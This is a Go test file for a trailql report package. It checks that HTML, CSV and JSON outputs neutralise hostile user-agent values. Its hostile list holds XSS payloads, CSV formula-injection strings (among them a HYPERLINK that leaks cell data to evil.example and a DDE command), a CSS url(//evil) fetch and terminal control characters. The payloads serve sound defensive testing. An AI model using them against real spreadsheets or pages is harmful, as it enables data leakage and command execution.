package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/trailql/trailql/connectors/sink"
)

var rewrite = flag.Bool("rewrite", false, "write the report of now into testdata")

// writers are the forms of a report by the names of their golden files.
func writers(r *Report) map[string]func(context.Context, io.Writer) error {
	return map[string]func(context.Context, io.Writer) error{"report.html": r.HTML, "report.json": r.JSON, "findings.csv": r.CSV}
}

// hostile is what who makes a call can put into its user agent.
var hostile = []string{
	`</td></tr></table><script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
	"\x1b[31mred\u202Egnp", "{{.Lake}}", "</style><style>*{background:url(//evil)}", "a,\"b\"\nc", "&lt;&#x3c;", "\x00",
}

func hostileReport(t *testing.T) *Report {
	t.Helper()
	var events []event
	for _, agent := range hostile {
		events = append(events, event{at: "2026-03-02T00:00:00Z", id: "e", name: "x", agent: agent})
	}
	r := made(t, runnerOf(serviceOf(t, events...), covered(whole, nil)), asking("1", "x"), asking("2", "none"))
	// Names in a bucket are a stranger's, too.
	r.Coverage.Gaps = []Gap{{Account: hostile[0], Region: hostile[1], Reason: hostile[9]}}
	r.Coverage.Basis = hostile[0]
	r.Lake = hostile[1]
	return r
}

// A page of hostile rows has the elements of one of harmless rows, reads as the rows do, and asks for nothing from outside.
func TestHTMLIsHarmless(t *testing.T) {
	var out bytes.Buffer
	if err := hostileReport(t).HTML(t.Context(), &out); err != nil {
		t.Fatal(err)
	}
	doc, err := html.Parse(&out)
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	csp := ""
	known := strings.Fields("html head meta title style body header h1 h2 h3 p dl dt dd div table thead tbody tr th td span a section details summary pre code")
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if !strings.Contains(" "+strings.Join(known, " ")+" ", " "+n.Data+" ") {
				t.Errorf("element %s", n.Data)
			}
			for _, a := range n.Attr {
				if a.Key == "content" && strings.Contains(a.Val, "default-src") {
					csp = a.Val
				}
				if strings.HasPrefix(a.Key, "on") || a.Key == "src" || a.Key == "style" || a.Key == "href" && !strings.HasPrefix(a.Val, "#c-") {
					t.Errorf("%s has %s=%q", n.Data, a.Key, a.Val)
				}
			}
			if n.Data == "td" && n.FirstChild != nil {
				cells = append(cells, n.FirstChild.Data)
			}
			if n.Data == "style" && strings.Contains(n.FirstChild.Data, "url(") {
				t.Error("the style asks for something from outside")
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if csp != "default-src 'none'; style-src 'unsafe-inline'" {
		t.Errorf("policy %q", csp)
	}
	all := strings.Join(cells, "\x00")
	for _, agent := range hostile {
		if !strings.Contains(all, "\x00"+sink.Visible(agent)+"\x00") {
			t.Errorf("no cell shows %q", agent)
		}
	}
	if strings.ContainsAny(all, "\x1b\u202E") {
		t.Error("control characters are not shown but done")
	}
}

// No cell is a formula; with the quotes in front taken away, all are what they were.
func TestCSVIsHarmless(t *testing.T) {
	var out bytes.Buffer
	r := hostileReport(t)
	r.Answers[0].Control.Title = "=1+1"
	if err := r.CSV(t.Context(), &out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(rows[0], "|"); got != "control|title|verdict|eventid|useragent|n" {
		t.Errorf("head %s", got)
	}
	if len(rows) != 1+len(hostile)+1 {
		t.Fatalf("%d lines: want the head, one a finding, and one for the control without", len(rows))
	}
	for i, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("line %d: cell %q", i, cell)
			}
		}
		if i > 0 && i <= len(hostile) {
			// The reader of CSV turns \r\n into \n, as the format has it.
			if got := strings.TrimPrefix(row[4], "'"); got != hostile[i-1] || row[1] != "'=1+1" || row[2] != "findings" {
				t.Errorf("line %d: %q, want %q", i, row, hostile[i-1])
			}
		}
	}
	if got := strings.Join(rows[len(rows)-1], "|"); got != "2|Events called none|none found|||" {
		t.Errorf("the control without findings: %s", got)
	}
}

// Columns of one name stand in one place, whatever control they are of; a name twice in one query counts once.
func TestCSVColumns(t *testing.T) {
	svc := serviceOf(t, event{at: "2026-03-02T00:00:00Z", id: "e", name: "x", agent: "ua"})
	ask := func(id, items string) Control {
		return Control{ID: id, Title: "T", SQL: "SELECT " + items + " FROM events WHERE _time >= :from AND _time < :to ORDER BY n"}
	}
	r := made(t, runnerOf(svc, covered(whole, nil)), ask("1", "eventid, n"), ask("2", "useragent AS title, eventid"), ask("3", "n AS eventid, eventname AS eventid, n"),
		Control{ID: "4", Title: "T", SQL: "SELEC"})
	var out bytes.Buffer
	if err := r.CSV(t.Context(), &out); err != nil {
		t.Fatal(err)
	}
	want := "control,title,verdict,eventid,n,title\n1,T,findings,e,0,\n2,T,findings,e,,ua\n3,T,findings,0,0,\n4,T,not provable,,,\n"
	if out.String() != want {
		t.Errorf("got\n%swant\n%s", out.String(), want)
	}
}

// The rows of the JSON are the rows of the query, hostile ones too.
func TestJSONHoldsTheRows(t *testing.T) {
	var out bytes.Buffer
	r := hostileReport(t)
	if err := r.JSON(t.Context(), &out); err != nil {
		t.Fatal(err)
	}
	var got struct {
		Coverage Coverage
		Controls []struct {
			SQL, SHA256 string
			Columns     []struct{ Name, Type string }
			Rows        []struct {
				EventID, UserAgent string
				N                  int
			}
		}
	}
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatalf("%v\n%s", err, out.String())
	}
	if len(got.Controls) != 2 || len(got.Controls[0].Rows) != len(hostile) || got.Controls[1].Rows == nil || len(got.Controls[1].Rows) != 0 {
		t.Fatalf("%+v", got.Controls)
	}
	for i, row := range got.Controls[0].Rows {
		if row.UserAgent != hostile[i] || row.N != i {
			t.Errorf("row %d: %+v", i, row)
		}
	}
	if c := got.Controls[0]; c.SQL != r.Answers[0].SQL || c.SHA256 != r.Answers[0].SHA256 || len(c.Columns) != 3 || c.Columns[2].Type != "bigint" {
		t.Errorf("%+v", c)
	}
	if got.Coverage.Gaps[0].Account != hostile[0] {
		t.Errorf("%+v", got.Coverage)
	}
}

// All forms of a small report, word for word; written anew with -rewrite.
func TestGolden(t *testing.T) {
	svc := serviceOf(t,
		event{at: "2026-03-02T00:00:00Z", id: "11111111-0000-0000-0000-000000000000", name: "x", agent: "aws-cli/2.1"},
		event{at: "2026-03-03T00:00:00Z", id: "22222222-0000-0000-0000-000000000000", name: "x"},
		event{at: "2026-03-04T00:00:00Z", id: "33333333-0000-0000-0000-000000000000", name: "on", agent: "<b>"})
	state := asking("1.10", "on")
	state.State, state.About = true, "Whether it is on is state."
	c := holed
	c.Accounts, c.MoreGaps = whole.Accounts, 2
	r := made(t, runnerOf(svc, covered(c, nil)), asking("1.1", "x"), asking("1.2", "none"), Control{ID: "1.3", Title: "Broken", Source: "b.sql", SQL: "SELECT nix\n"}, state)
	files := writers(r)
	files["report.txt"] = func(_ context.Context, w io.Writer) error { return r.Text(w) }
	for name, write := range files {
		var out bytes.Buffer
		if err := write(t.Context(), &out); err != nil {
			t.Fatal(err)
		}
		golden := filepath.Join("testdata", name)
		if *rewrite {
			if err := os.WriteFile(golden, out.Bytes(), 0o666); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(want, out.Bytes()) {
			t.Errorf("%s is not what testdata holds; got\n%s", name, out.String())
		}
	}
}

// The files of a folder are all of one report, also when the next cannot be written.
func TestSave(t *testing.T) {
	svc := serviceOf(t, event{at: "2026-03-02T00:00:00Z", id: "a", name: "x"})
	first := made(t, runnerOf(svc, covered(whole, nil)), asking("1", "x"))
	dir := filepath.Join(t.TempDir(), "new", "out")
	d, err := first.Save(t.Context(), dir)
	if err != nil || d.Where != dir || len(d.SHA256) != 64 {
		t.Fatalf("%+v, %v", d, err)
	}
	held := map[string]string{}
	check := func(when string) {
		t.Helper()
		if got := strings.Join(tree(t, dir), " "); got != "findings.csv report.html report.json" {
			t.Errorf("%s there is %s", when, got)
		}
		for name := range writers(first) {
			text, err := os.ReadFile(filepath.Join(dir, name))
			if err != nil || len(text) == 0 {
				t.Fatal(name, err)
			}
			if held[name] != "" && held[name] != string(text) {
				t.Errorf("%s %s is another", when, name)
			}
			held[name] = string(text)
		}
	}
	check("at first")
	second := made(t, runnerOf(svc, covered(whole, nil)), asking("1", "none"), asking("2", "x"))
	second.Answers[1].Findings++
	if _, err := second.Save(t.Context(), dir); err == nil {
		t.Error("a report whose rows are gone was written")
	}
	check("after a failure")
	second.Answers[1].Findings--
	if _, err := second.Save(t.Context(), dir); err != nil {
		t.Fatal(err)
	}
	clear(held)
	check("in the end")
	if !strings.Contains(held["report.html"], "Events called none") {
		t.Error("the second report did not replace the first")
	}
}
